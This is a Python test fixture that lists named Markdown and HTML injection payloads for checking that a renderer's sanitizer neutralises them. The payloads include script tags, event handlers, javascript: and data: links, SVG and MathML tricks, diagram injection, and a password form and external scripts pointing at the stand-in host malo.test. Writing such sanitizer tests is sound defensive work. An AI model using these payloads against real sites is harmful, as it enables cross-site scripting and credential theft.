"""Markdown that tries to bring script, style, forms or a forged interface into a page, one attack a class.

Import `HOSTILE`: pairs of name and source. A browser that opens what comes of them must run nothing, load
nothing from elsewhere and report no violation of the policy.
"""

HOSTILE: list[tuple[str, str]] = [
    ("script tag", "<script>alert(1)</script>"),
    ("script in upper case with a broken end", "<SCRIPT >alert(1)</SCRIPT foo>"),
    ("script split by a comment", "<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>"),
    ("external script", '<script src="https://malo.test/x.js"></script>'),
    ("event handler on an image", '<img src="x" onerror="alert(1)">'),
    ("event handler without quotes or spaces", "<img/src=x/onerror=alert(1)>"),
    ("event handler of a details", "<details open ontoggle=alert(1)><summary>a</summary></details>"),
    ("autofocus and focus handler", "<input autofocus onfocus=alert(1)>"),
    ("animation handler", '<div style="animation:x" onanimationstart="alert(1)">a</div>'),
    ("javascript link in Markdown", "[pulsa](javascript:alert(1))"),
    ("javascript link with entities", "[pulsa](&#106;avascript&colon;alert(1))"),
    ("javascript link with tab and line break", '<a href="java\tscr\nipt:alert(1)">pulsa</a>'),
    ("javascript link with control characters", '<a href="\x01javascript:alert(1)">pulsa</a>'),
    ("javascript by reference definition", "[pulsa][x]\n\n[x]: javascript:alert(1)"),
    ("javascript in an automatic link", "<javascript:alert(1)>"),
    ("vbscript link", "[pulsa](vbscript:msgbox(1))"),
    ("data link with HTML", "[pulsa](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("data image with SVG", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)"),
    ("tracking image", "![x](https://malo.test/pixel.gif)"),
    ("image without a scheme from elsewhere", '<img src="//malo.test/pixel.gif">'),
    ("svg with a handler", '<svg onload="alert(1)"><circle r="1"/></svg>'),
    ("svg with a script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg animation of a link",
        '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>a</text></a></svg>',
    ),
    (
        "svg use of another document",
        '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>',
    ),
    (
        "foreign object",
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    ),
    (
        "mathml namespace confusion",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    ),
    ("noscript confusion", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("template with content", "<template><img src=x onerror=alert(1)></template>"),
    ("iframe with srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    (
        "object and embed",
        '<object data="https://malo.test/x.swf"></object><embed src="https://malo.test/x.swf">',
    ),
    ("base address", '<base href="https://malo.test/">[enlace](x)'),
    ("refresh", '<meta http-equiv="refresh" content="0;url=https://malo.test/">'),
    ("style sheet", "<style>body{display:none}</style>"),
    ("style sheet from elsewhere", '<link rel="stylesheet" href="https://malo.test/x.css">'),
    ("style attribute", '<p style="position:fixed;inset:0;background:url(https://malo.test/x)">a</p>'),
    ("style by attribute list", 'párrafo\n{: style="position:fixed" onclick="alert(1)" }'),
    ("handler by attribute list on a link", '[a](b.md){: onclick="alert(1)" }'),
    (
        "form that asks for a password",
        '<form action="https://malo.test/"><input type="password" name="p"></form>',
    ),
    ("button with an action", '<button formaction="javascript:alert(1)">Entregar</button>'),
    ("htmx attributes", '<div hx-get="/cuenta/" hx-trigger="load" data-hx-post="/x/">a</div>'),
    ("alpine attributes", '<div x-data="{}" x-init="alert(1)" @click="alert(1)">a</div>'),
    (
        "popover that opens the page's own parts",
        '<button popovertarget="lado">x</button><div popover id="lado">y</div>',
    ),
    ("ids of the page", '<div id="contenido">falso</div>\n\n<span id="i-check"></span>'),
    ("names that shadow the document", '<img name="getElementById"><a id="cookie" name="cookie">a</a>'),
    ("markup in a fence's title", '``` {.python title="<img src=x onerror=alert(1)>"}\nx = 1\n```'),
    ("quotes in a fence's title", "``` {.python title='\" onmouseover=\"alert(1)'}\nx = 1\n```"),
    ("markup in a fence", "```html\n<script>alert(1)</script>\n```"),
    ("markup in a fence's language", '```"><script>alert(1)</script>\nx\n```'),
    ("markup in an admonition", '!!! nota "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>'),
    ("class of an admonition", "!!! nota onclick x\n    a"),
    ("markup in a heading", '## <img src=x onerror=alert(1)> Título\n\n## a" onmouseover="alert(1)'),
    ("markup in a footnote", "a[^1]\n\n[^1]: <script>alert(1)</script>[x](javascript:alert(1))"),
    ("markup in an abbreviation", 'HCM\n\n*[HCM]: "><script>alert(1)</script>'),
    ("markup in a table", "| a |\n|---|\n| <script>alert(1)</script> |"),
    ("markup in a tab", '=== "<script>alert(1)</script>"\n    a'),
    (
        "markup inside md_in_html",
        '<div markdown="1" onclick="alert(1)">\n**a** <script>alert(1)</script>\n</div>',
    ),
    ("markup in a myth", "> **Mito: <script>alert(1)</script>.** a"),
    ("markup in a reference", '`a<script>alert(1)</script>.cc:12` `"onclick=alert(1)//.cc:12`'),
    ("markup in a list of references", '```\na"onmouseover="alert(1).cc:12\n```'),
    ("a marker of ours, guessed", '<p class="diagram-0123456789abcdef-0"></p> icon-0123456789abcdef-info-icon'),
    (
        "markup in a diagram",
        "```mermaid\nflowchart LR\n  accTitle: <script>alert(1)</script>\n"
        '  accDescr: "><img src=x onerror=alert(1)>\n'
        '  a["<img src=x onerror=alert(1)>"] --> b["<b onclick=alert(1)>b</b>"]\n```',
    ),
    (
        "links and handlers in a diagram",
        "```mermaid\nflowchart LR\n  accTitle: a\n  accDescr: b\n  a --> b\n"
        '  click a "javascript:alert(1)" "pulsa"\n  click b call alert(1)\n```',
    ),
    (
        "style sheet in a diagram",
        "```mermaid\n%%{init: {'themeCSS': '*{fill:url(https://malo.test/x)} @import \"https://malo.test/x.css\";'}}%%\n"
        "flowchart LR\n  accTitle: a\n  accDescr: b\n  a --> b\n"
        "  style a fill:url(https://malo.test/x),background-image:url(https://malo.test/x)\n```",
    ),
]
